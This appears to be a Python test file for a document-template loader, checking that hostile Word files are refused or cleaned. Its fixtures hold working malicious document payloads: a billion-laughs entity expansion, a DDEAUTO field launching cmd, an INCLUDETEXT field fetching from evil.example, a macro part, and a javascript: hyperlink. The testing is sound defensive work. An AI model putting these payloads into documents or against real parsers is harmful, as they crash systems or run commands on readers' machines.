"""Word documents that would harm whoever opens them are refused as templates, before they are read into memory."""

from __future__ import annotations

import io
import zipfile

import pytest
from docx import Document

from facilitator.documents.docx import open_template
from facilitator.documents.formats import TemplateError

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LAUGHS = (
    "<?xml version='1.0'?><!DOCTYPE w [<!ENTITY a 'aaaaaaaaaa'>"
    + "".join(f"<!ENTITY {new} '{f'&{old};' * 10}'>" for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><w>&i;</w>"
)


def document_with(**parts: str) -> bytes:
    made, out = io.BytesIO(), io.BytesIO()
    Document().save(made)
    with zipfile.ZipFile(made) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name, old.read(name)))
        for name in parts.keys() - set(old.namelist()):
            new.writestr(name, parts[name])
    return out.getvalue()


def test_a_usual_document_is_opened():
    assert open_template(document_with()).paragraphs == []


@pytest.mark.parametrize(
    ("name", "body"),
    [
        (
            "word/document.xml",
            f'<w:document xmlns:w="{W}"><w:body>{"<w:p/>" * 2_100_000}</w:body></w:document>',
        ),
        ("word/document.xml", LAUGHS),
        ("word/document.xml", "<a>"),
        ("word/document.xml", ""),
        ("word/_rels/document.xml.rels", "<a/>"),
        ("word/settings.xml", "<a"),
        ("word/media/image1.png", "x" * 61_000_000),
        ("word/vbaProject.bin", "macro"),
    ],
)
def test_a_hostile_document_is_refused(name, body):
    with pytest.raises(TemplateError):
        open_template(document_with(**{name: body}))


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
FIELDS = f"""<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>
<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.example/x&quot; "><w:r><w:t>kept words</w:t></w:r></w:fldSimple></w:p>
<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd "/c calc" </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown before</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> QUOTE </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> NUMPAGES </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
<w:p><w:hyperlink r:id="bad"><w:r><w:t>press me</w:t></w:r></w:hyperlink><w:hyperlink r:id="good"><w:r><w:t>our page</w:t></w:r></w:hyperlink></w:p>
<w:altChunk r:id="chunk"/><w:sectPr/></w:body></w:document>"""
RELS = f"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="bad" Type="{R}/hyperlink" Target=" javascript:alert(1)" TargetMode="External"/>
<Relationship Id="good" Type="{R}/hyperlink" Target="https://example.org/" TargetMode="External"/>
</Relationships>"""


def test_fields_that_fetch_or_start_and_unsafe_links_are_taken_out_and_their_words_stay():
    data = document_with(**{"word/document.xml": FIELDS, "word/_rels/document.xml.rels": RELS})
    document = open_template(data)
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(out) as made:
        written = "".join(
            made.read(name).decode() for name in made.namelist() if name.endswith((".xml", ".rels"))
        )
    for gone in ("INCLUDETEXT", "DDE", "AUTO cmd", "QUOTE", "javascript", "altChunk", "evil.example"):
        assert gone not in written, gone
    for stays in (
        " PAGE ",
        " NUMPAGES ",
        "https://example.org/",
        "kept words",
        "shown before",
        "press me",
        "our page",
    ):
        assert stays in written, stays
    assert written.count('fldCharType="begin"') == written.count('fldCharType="end"')
